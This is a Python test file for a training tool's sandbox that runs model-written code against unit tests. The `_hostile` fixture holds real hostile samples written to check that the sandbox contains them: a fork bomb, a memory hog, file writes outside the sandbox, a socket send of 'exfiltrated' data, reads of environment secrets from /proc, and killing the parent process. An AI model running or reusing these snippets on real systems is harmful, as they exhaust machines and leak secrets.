"""code.tests: hostile completions score 0 and leave nothing behind, at each isolation level that
exists here; the test formats of the common code datasets; a sandbox that cannot be set up is exit 2."""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest
from cli_runner import run_grpo
from tiny_runs import FAST

from grpocli.errors import UserError
from grpocli.rewards import sandbox, uid_pool
from grpocli.rewards.code_tests import cases_of, code_tests, extract_code
from grpocli.rewards.sandbox import Limits
from grpocli.rewards.sandbox_cases import Program, run_program

LEVELS = [pytest.param("process", id="process"),
          pytest.param("bwrap", id="bwrap", marks=pytest.mark.skipif(
              sandbox.bwrap_problem() is not None, reason=f"bubblewrap: {sandbox.bwrap_problem()}"))]
ADD_TESTS = ["assert add(1, 2) == 3", "assert add(-1, 1) == 0"]
CORRECT = "Here it is:\n```python\ndef add(a, b):\n    return a + b\n```"


@pytest.fixture
def temp_root(monkeypatch, tmp_path):  # tmp_path first: pytest makes it under the real temp dir
    """A fresh temp root for the sandbox's directories (world-traversable, as /tmp is)."""
    root = Path(tempfile.mkdtemp(prefix="grpo-sbx-test-", dir="/tmp"))
    root.chmod(0o755)
    monkeypatch.setattr(tempfile, "tempdir", str(root))
    yield root
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def listener():
    """A TCP server on 127.0.0.1 that records every byte anyone sends it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    received: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(1024) or b"<connected>")
                except OSError:
                    received.append(b"<connected>")

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], received
    server.close()


def _hostile(port: int, secret_name: str, outside: Path, shared: Path) -> dict[str, str]:
    return {
        "infinite loop": "while True:\n    pass",
        "fork bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "memory hog": "x = bytearray(8 * 1024 ** 3)\nx[-1] = 1",
        "write outside": f"open({str(outside)!r}, 'w').write('pwned')\n"
                         f"open({str(shared)!r}, 'w').write('pwned')\nwhile True:\n    pass",
        "network": f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                   "s.sendall(b'exfiltrated')",
        "read env": "import os\nleaked = repr(dict(os.environ))\n"
                    "for pid in (os.getppid(), 1):\n    try:\n"
                    "        leaked += open(f'/proc/{pid}/environ').read()\n    except OSError:\n        pass\n"
                    "print(leaked)",
        "kill parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)",
        "huge stdout": "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)",
    }


def _sandbox_processes() -> list[int]:
    """Live processes under a sandbox uid, or children of this process (a /proc scan). Compare with a
    count taken before the test: a session fixture's server (tests/engines) is a child too."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if fields["State"].split()[0] in ("Z", "X"):
            continue  # dead, holding only its pid until init reaps it
        uid = int(fields["Uid"].split()[0])
        if uid_pool.UID_BASE <= uid < uid_pool.UID_BASE + uid_pool.UID_SLOTS or int(fields["PPid"]) == os.getpid():
            found.append(int(entry))
    return found


@pytest.mark.parametrize("isolation", LEVELS)
def test_hostile_completions_score_zero_and_leave_nothing(isolation, temp_root, listener, tmp_path, monkeypatch):
    port, received = listener
    before = set(_sandbox_processes())
    secret = secrets.token_hex(12)
    monkeypatch.setenv("GRPO_TEST_SECRET", secret)
    outside, shared = tmp_path / "outside.txt", Path("/tmp") / f"grpo-sbx-pwned-{secret}"
    hostile = _hostile(port, "GRPO_TEST_SECRET", outside, shared)
    completions = [CORRECT, *(f"```python\n{code}\n```" for code in hostile.values())]
    tests = [ADD_TESTS] * len(completions)
    tests[1 + list(hostile).index("read env")] = [f"assert {secret!r} in leaked"]  # 1.0 only if it leaked
    logged: dict[str, float] = {}
    started = time.monotonic()
    scores = code_tests([""] * len(completions), completions, tests=tests, isolation=isolation, case_timeout=3.0,
                        workers=2, log_metric=logged.__setitem__)
    took = time.monotonic() - started
    assert scores[0] == 1.0
    assert dict(zip(hostile, scores[1:])) == dict.fromkeys(hostile, 0.0)
    assert logged["sandbox/passed"] == 2 and sum(logged.values()) == 2 * len(completions) - 1
    assert logged["sandbox/timeout"] >= 3, logged  # loop, fork bomb, write-outside (its loop)
    assert not outside.exists() and not shared.exists()
    assert received == []
    assert set(_sandbox_processes()) <= before
    assert list(temp_root.iterdir()) == []  # (the uid pool's locks are in /run)
    assert took < 60, took
    assert subprocess.run(["true"], check=False, timeout=5).returncode == 0  # the machine still forks


@pytest.mark.parametrize("isolation", LEVELS)
def test_secret_and_stdout_stay_inside(isolation, temp_root, monkeypatch):
    secret = secrets.token_hex(12)
    monkeypatch.setenv("GRPO_TEST_SECRET", secret)
    spy = ("import os\nprint(sorted(os.environ))\nfor pid in (os.getppid(), 1):\n    try:\n"
           "        print(open(f'/proc/{pid}/environ').read())\n    except OSError as e:\n        print(e)")
    out = run_program(Program(spy, "stdio", tests="", stdin=""), Limits(timeout_s=2), isolation)
    assert out.status == "failed" and "PATH" in out.stdout and secret not in out.stdout, out
    huge = run_program(Program("print('x' * (64 << 20))", "stdio"), Limits(timeout_s=2, file_size_mb=1), isolation)
    assert huge.status == "crashed" and len(huge.stdout) <= 1 << 20


@pytest.mark.parametrize("isolation", LEVELS)
def test_stdio_and_call_cases_pass_and_fail(isolation, temp_root):
    sums = "```python\nprint(sum(map(int, input().split())))\n```"
    wrong = "```python\nprint(0)\n```"
    rows = [{"inputs": ["1 2\n", "3 4\n"], "outputs": ["3\n", "7"]},
            json.dumps({"inputs": [[1, 2]], "outputs": [3], "fn_name": "add"})]
    scores = code_tests(["", "", "", ""], [sums, wrong, CORRECT, "def add(a, b): return 0"],
                        tests=[rows[0], rows[0], rows[1], rows[1]], isolation=isolation)
    assert scores == [1.0, 0.0, 1.0, 0.0]


def test_exit_before_the_tests_and_all_or_nothing(temp_root):
    half = "def add(a, b):\n    return 3"
    escape = "import os\nos._exit(0)"  # exit 0 without running the asserts: not a pass
    scores = code_tests(["", "", ""], [half, half, escape], tests=[ADD_TESTS] * 3, isolation="process",
                        mode="all_or_nothing")
    assert scores == [0.0, 0.0, 0.0]
    assert code_tests([""], [half], tests=[ADD_TESTS], isolation="process") == [0.5]
    assert code_tests([""], [half], tests=[[]], isolation="process") == [None]


def test_dataset_formats_and_code_extraction():
    assert [m for m, _, _ in cases_of(["assert f(1) == 1", "assert f(2) == 2"])] == ["assert", "assert"]
    assert cases_of('{"inputs": ["1\\n"], "outputs": ["2\\n"]}') == [("stdio", "2\n", "1\n")]
    deepcoder = [{"input": "1 2", "output": "3", "testtype": "stdin"}]
    assert cases_of(json.dumps(deepcoder)) == [("stdio", "3", "1 2")]
    open_r1 = {"language": "python", "test_cases": [{"input": "x", "output": "y", "type": "stdin_stdout"}]}
    assert cases_of(open_r1) == [("stdio", "y", "x")]
    functional = cases_of([{"input": "1\n2", "output": "3", "testtype": "functional"}], fn_name="add")
    assert functional == [("call", json.dumps({"fn": "add", "args": [1, 2], "expected": 3}), "")]
    with pytest.raises(UserError, match="cannot read a test of type int"):
        cases_of(5)
    text = "plan\n```\nnot this\n```\n```python\nfirst\n```\n```python\nlast\n```"
    assert extract_code(text) == "last\n" and extract_code("x = 1") == "x = 1"


def test_bad_args_and_a_missing_bwrap_are_user_errors(monkeypatch):
    with pytest.raises(UserError, match="case_timeout"):
        code_tests.check_args({"case_timeout": 0})
    with pytest.raises(UserError, match="isolation"):
        code_tests.check_args({"isolation": "docker"})
    monkeypatch.setenv("PATH", "/nonexistent")
    monkeypatch.setattr(sandbox, "_BWRAP_CHECKED", {})
    with pytest.raises(UserError) as err:
        code_tests.check_args({"isolation": "bwrap"})
    assert "not installed" in str(err.value) and "apt-get install" in err.value.render()
    code_tests.check_args({"isolation": "auto"})  # falls back to the process level


def test_bwrap_missing_is_exit_2_before_the_model_loads(tmp_path):
    data = tmp_path / "code.jsonl"
    data.write_text(json.dumps({"prompt": "Write add(a, b).", "tests": ADD_TESTS}) + "\n")
    rewards = 'rewards=[{name="code.tests", args={isolation="bwrap"}}]'
    done = run_grpo("train", "quickstart", *FAST, f"data.dataset={data}", "data.args={}", rewards,
                    f"train.output_dir={tmp_path / 'run'}", env={"PATH": "/nonexistent"}, timeout=120)
    assert done.returncode == 2, done.stderr[-2000:]
    assert "apt-get install" in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "run" / "checkpoints").exists()


@pytest.mark.slow
def test_training_goes_on_with_garbage_completions(tmp_path):
    rows = [{"prompt": f"Write add(a, b) #{i}", "tests": ADD_TESTS[:1]} for i in range(8)]
    data = tmp_path / "code.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in rows))
    temp_root = Path(tempfile.mkdtemp(prefix="grpo-sbx-train-", dir="/tmp"))
    temp_root.chmod(0o755)
    out = tmp_path / "run"
    rewards = 'rewards=[{name="code.tests", args={case_timeout=1.0, workers=2}}]'
    before = set(_sandbox_processes())
    try:
        done = run_grpo("train", "quickstart", *FAST, f"data.dataset={data}", "data.args={}", rewards,
                        "train.steps=1", "train.torch_threads=1", f"train.output_dir={out}", env={"TMPDIR": str(temp_root)},
                        timeout=240)
        assert done.returncode == 0, done.stderr[-3000:]
        steps = [json.loads(line) for line in (out / "metrics.jsonl").read_text().splitlines() if "loss" in line]
        assert len(steps) == 1
        assert steps[-1]["rewards/code.tests/mean"] == 0.0, steps[-1]
        assert sum(steps[-1].get(f"sandbox/{s}", 0) for s in ("failed", "crashed", "timeout")) == 16, steps[-1]
        assert [p.name for p in temp_root.iterdir() if p.name.startswith("grpo-")] == []
        assert set(_sandbox_processes()) <= before
    finally:
        shutil.rmtree(temp_root, ignore_errors=True)


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed (apt-get install -y bubblewrap)")
def test_bwrap_runs_an_interpreter_that_lives_under_the_temp_dir(tmp_path, temp_root):
    """A virtual environment under /tmp (a CI clone's) is shown inside, though /tmp there is a fresh tmpfs."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "venv")], check=True, timeout=120)
    python = str(tmp_path / "venv" / "bin" / "python")
    assert code_tests([""], [CORRECT], tests=[ADD_TESTS], isolation="bwrap", python=python) == [1.0]
